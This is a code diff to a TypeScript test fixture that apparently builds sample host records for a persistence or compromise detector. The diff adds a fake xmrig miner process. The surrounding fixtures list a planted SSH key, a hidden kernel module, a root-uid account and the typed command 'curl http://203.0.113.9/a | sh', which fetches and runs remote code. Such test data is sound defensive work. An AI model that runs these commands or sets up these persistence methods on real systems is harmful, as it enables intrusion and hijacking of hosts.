@@ -34,6 +34,13 @@ function staying(name: string): HostFixture[] {
     { ...start, mechanism: "authorized-key", at: 90, command: `ssh-rsa AAAA ${name}` },
     { ...start, mechanism: "kernel-module", command: `/tmp/.${name}.ko` },
     { kind: "account", user: name, uid: 0, shell: name, home: name },
+    {
+      kind: "process",
+      pid: 1,
+      name: "xmrig",
+      exe: `/${name}`,
+      args: `xmrig -o ${name}.example:3333 -u ${name}`,
+    },
     { ...typed, text: `curl http://203.0.113.9/a | sh; ${name}` },
   ];
 }
